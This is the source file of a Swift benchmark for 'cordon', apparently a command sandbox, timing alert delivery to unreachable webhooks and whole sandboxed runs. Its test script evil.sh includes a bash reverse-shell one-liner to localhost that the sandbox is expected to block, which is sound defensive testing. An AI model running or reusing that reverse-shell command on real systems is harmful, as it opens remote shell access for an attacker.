// cordon-bench alerts [--runs N] [--cordon PATH]: what alerts cost the run, side by side.
//   send(): ns per AlertDispatcher.send to an unreachable (closed port) and a silent webhook
//           (a listening socket nobody accepts on: the connection opens, no answer ever comes)
//   a run:  `cordon run -- sh evil.sh` whose second line is blocked at critical level inside the
//           sandbox (an alert) and whose third line still runs, with no channel, a closed port,
//           a silent webhook: the command's own time (run_end durationMs) and cordon's wall
//           time, which includes the bounded drain at exit (monitor.alert_delivery.drain).
import CordonAlerts
import CordonAudit
import CordonBase
import CordonPolicy
import Glibc

enum AlertBench {
    static func main(_ args: [String]) -> Int32 {
        guard let (runs, cordon) = SandboxBench.options(args, runs: 15) else { return 1 }
        guard let silent = silentPort(), let closed = closedPort() else {
            print("cannot open a local socket")
            return 1
        }
        sendCost(closed: closed, silent: silent.port)
        raiseCost(closed: closed, silent: silent.port)
        return runCost(runs: runs, cordon: cordon, closed: closed, silent: silent.port)
    }

    // MARK: send()

    static func sendCost(closed: UInt16, silent: UInt16) {
        var delivery = AlertDelivery()
        delivery.timeout = 30
        delivery.drain = 0
        let channels = [
            AlertChannel(type: "webhook", settings: ["url": "http://127.0.0.1:\(closed)/x"]),
            AlertChannel(type: "webhook", settings: ["url": "http://127.0.0.1:\(silent)/x"]),
        ]
        let d = AlertDispatcher(channels: channels, delivery: delivery, cwd: "/") { _ in }
        let alert = Alert(
            id: "al-1", time: "2026-12-06T00:00:00.000Z", kind: .criticalBlock, level: .critical,
            summary: "cordon blocked inside the sandbox at critical level", agent: "a", project: "p", run: "r-1",
            session: "s-1", score: 1, reasons: ["reverse shell"], tracePath: "/tmp/t.jsonl")
        var ns: [Double] = []
        for _ in 0..<20_000 {
            let t0 = now()
            d.send(alert)
            ns.append((now() - t0) * 1e9)
        }
        d.drain()
        ns.sort()
        print("AlertDispatcher.send to a closed port and a silent webhook, 20,000 alerts (queue 256, drop-oldest)")
        print(
            "  median \(Int(ns[ns.count / 2])) ns, p99 \(Int(ns[ns.count * 99 / 100])) ns, max \(Int(ns[ns.count - 1])) ns (first includes starting the channel threads)"
        )
    }

    /// What the run's own thread does per alert (RunAlerts.raise): the `alert` trace event, the
    /// gate.log line (hash chain, flock) and the send, with both webhooks unreachable.
    static func raiseCost(closed: UInt16, silent: UInt16) {
        let dir = "/tmp/cordon-bench-alerts-raise"
        _ = system("rm -rf \(dir)")
        guard let recorder = try? RunRecorder(directory: LogDirectory(path: dir)) else {
            print("cannot open a recorder in \(dir)")
            return
        }
        var delivery = AlertDelivery()
        delivery.timeout = 30
        delivery.drain = 0
        let d = AlertDispatcher(
            channels: [
                AlertChannel(type: "webhook", settings: ["url": "http://127.0.0.1:\(closed)/x"]),
                AlertChannel(type: "webhook", settings: ["url": "http://127.0.0.1:\(silent)/x"]),
            ], delivery: delivery, cwd: "/"
        ) { _ in }
        var us: [Double] = []
        for n in 0..<2000 {
            let alert = Alert(
                id: "al-\(n)", time: "2026-12-06T00:00:00.000Z", kind: .criticalBlock, level: .critical,
                summary: "cordon blocked inside the sandbox at critical level", agent: "a", project: "p",
                run: recorder.run, session: "s-1", score: 1, reasons: ["reverse shell"], tracePath: recorder.tracePath)
            let t0 = now()
            try? recorder.event(
                .alert,
                [
                    ("id", .string(alert.id)), ("kind", "critical_block"), ("level", "critical"),
                    ("summary", .string(alert.summary)), ("score", 1), ("reasons", ["reverse shell"]),
                    ("channels", ["webhook a", "webhook b"]),
                ])
            _ = try? recorder.log(
                LogRecord(
                    decision: "alert", score: 100, level: "critical", action: alert.id, source: "alert",
                    rule: "critical_block", command: Array(alert.summary.utf8), reasons: ["reverse shell"]))
            d.send(alert)
            us.append((now() - t0) * 1e6)
        }
        d.drain()
        us.sort()
        print(
            "one alert on the run's path (trace event + gate.log line + send), 2,000 alerts, both webhooks unreachable")
        print("  median \(SandboxBench.fmt(us[us.count / 2])) us, p99 \(SandboxBench.fmt(us[us.count * 99 / 100])) us")
        _ = system("rm -rf \(dir)")
    }

    // MARK: a run

    static func runCost(runs: Int, cordon: String, closed: UInt16, silent: UInt16) -> Int32 {
        let dir = "/tmp/cordon-bench-alerts"
        _ = system("rm -rf \(dir) && mkdir -p \(dir)/ws && chmod 777 \(dir) \(dir)/ws")
        let script = "true\nbash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'\necho after\n"
        guard write(dir + "/ws/evil.sh", script) else { return 1 }
        let hook = { (url: String) in
            "extends: default\nmonitor:\n  alert_channels: [{type: webhook, url: \"\(url)\"}]\n  alert_delivery: {timeout: 30s}\n"
        }
        let policies = [
            ("no alert channel", "extends: default\n"),
            ("webhook on a closed port", hook("http://127.0.0.1:\(closed)/x")),
            ("webhook that never answers", hook("http://127.0.0.1:\(silent)/x")),
        ]
        for (i, p) in policies.enumerated() { guard write("\(dir)/p\(i).yaml", p.1) else { return 1 } }
        func argv(_ i: Int, _ n: Int) -> [String] {
            [
                cordon, "run", "--workspace", dir + "/ws", "--log-dir", dir + "/log", "--policy", "\(dir)/p\(i).yaml",
                "--trace", "\(dir)/t\(i)-\(n).jsonl", "--", "sh", dir + "/ws/evil.sh",
            ]
        }
        var wall = [[Double]](repeating: [], count: policies.count)
        var inRun = [[Double]](repeating: [], count: policies.count)
        for n in 0...runs {
            for i in policies.indices {
                guard let t = SandboxBench.time(argv(i, n)) else {
                    print("\(policies[i].0): cordon run failed")
                    return 1
                }
                guard let ms = durationMs("\(dir)/t\(i)-\(n).jsonl") else {
                    print("\(policies[i].0): no run_end in the trace")
                    return 1
                }
                if n == 0 { continue }  // warm-up
                wall[i].append(t * 1000)
                inRun[i].append(ms)
            }
        }
        print(
            "\ncordon run -- sh evil.sh (an exec blocked at critical level inside, then echo), \(runs) runs each, interleaved (uid \(geteuid()))"
        )
        print("case".padded(30) + "run_end durationMs (median)  cordon wall ms (median)  exit delay vs none")
        let base = (median(inRun[0]), median(wall[0]))
        for i in policies.indices {
            let m = (median(inRun[i]), median(wall[i]))
            print(
                policies[i].0.padded(30) + SandboxBench.fmt(m.0).padded(29) + SandboxBench.fmt(m.1).padded(25)
                    + SandboxBench.fmt(m.1 - base.1))
        }
        for i in 1..<policies.count {
            print("run delay, \(policies[i].0): \(SandboxBench.fmt(median(inRun[i]) - base.0)) ms (budget < 10)")
        }
        return 0
    }

    static func durationMs(_ trace: String) -> Double? {
        guard let bytes = try? FileIO.readFile(trace) else { return nil }
        for line in String(decoding: bytes, as: UTF8.self).split(separator: "\n").reversed() {
            guard let e = try? JSONValue.parse(String(line)), e["type"]?.stringValue == "run_end" else { continue }
            return e["durationMs"]?.doubleValue
        }
        return nil
    }

    static func median(_ xs: [Double]) -> Double {
        let s = xs.sorted()
        return s.isEmpty ? 0 : s[s.count / 2]
    }

    static func now() -> Double {
        var ts = timespec()
        clock_gettime(CLOCK_MONOTONIC, &ts)
        return Double(ts.tv_sec) + Double(ts.tv_nsec) / 1e9
    }

    static func write(_ path: String, _ text: String) -> Bool {
        let fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0o644)
        guard fd >= 0 else { return false }
        defer { close(fd) }
        return Array(text.utf8).withUnsafeBytes { FileIO.writeAll(fd, $0).written } == text.utf8.count
    }

    /// A listening socket nobody accepts on: connects complete in the backlog, no byte comes back.
    static func silentPort() -> (fd: Int32, port: UInt16)? {
        let s = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        var addr = sockaddr_in()
        addr.sin_family = sa_family_t(AF_INET)
        addr.sin_addr.s_addr = inet_addr("127.0.0.1")
        let ok = withUnsafePointer(to: &addr) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                bind(s, $0, socklen_t(MemoryLayout<sockaddr_in>.size))
            }
        }
        guard s >= 0, ok == 0, listen(s, 1024) == 0 else { return nil }
        var len = socklen_t(MemoryLayout<sockaddr_in>.size)
        _ = withUnsafeMutablePointer(to: &addr) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(s, $0, &len) }
        }
        return (s, UInt16(bigEndian: addr.sin_port))
    }

    static func closedPort() -> UInt16? {
        guard let (fd, port) = silentPort() else { return nil }
        close(fd)
        return port
    }
}
